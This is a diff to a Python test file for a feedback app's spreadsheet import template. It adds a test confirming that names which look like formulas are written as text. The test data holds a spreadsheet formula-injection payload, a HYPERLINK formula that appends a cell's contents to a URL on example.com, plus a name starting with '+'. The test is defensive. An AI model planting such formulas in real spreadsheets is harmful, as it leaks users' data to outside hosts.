@@ -16,7 +16,7 @@ from dialogues.models import SessionStatus
 from feedback.imports import COLUMNS, MAX_BYTES, MAX_ROWS, kind_labels, outcome_labels
 from feedback.models import Field, Opinion, OpinionKind, OpinionStatus
 
-from .factories import agency, make_plan, make_session, unit
+from .factories import agency, district, make_plan, make_session, unit
 
 TEMPLATE_URL = reverse("feedback:opinion-import-template")
 HEADERS = [column.header for column in COLUMNS]
@@ -484,6 +484,27 @@ def test_the_templates_drop_downs_hold_the_active_lists(officer, session):
         for v in book["Ý kiến"].data_validations.dataValidation
     }
     assert stops["A2"] == stops["B2"] == stops["F2"] == "stop"
+
+
+def test_the_template_writes_a_name_that_looks_like_a_formula_as_text(officer, session, hamlet):
+    formula = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
+    Agency.objects.create(name=formula, unit=district())
+    Hamlet.objects.filter(pk=hamlet.pk).update(name="+1 Thôn Đông")
+
+    book = template_for(officer, session)
+
+    cells = [cell for row in book["Danh mục"].iter_rows() for cell in row if cell.value]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert "'" + formula in choices(book, "Cơ quan được chuyển")
+    assert "'+1 Thôn Đông" in choices(book, "Thôn/tổ dân phố")
+    # Chosen from the drop-downs, the names import as the agency and the hamlet they are.
+    labels_ = labels(book)
+    fill(book, [{"Lĩnh vực": "Đất đai", "Nội dung": "Ý kiến", "Thôn/tổ dân phố": "'+1 Thôn Đông",
+                 "Kết quả": labels_["outcome"]["forwarded"],
+                 "Cơ quan được chuyển": "'" + formula}])  # fmt: skip
+    assert upload(officer, session, book).status_code == 302
+    opinion = Opinion.objects.get()
+    assert (opinion.agency.name, opinion.hamlet_id) == (formula, hamlet.pk)
 
 
 def test_the_instructions_sheet_describes_two_examples_under_the_headers(officer, session):
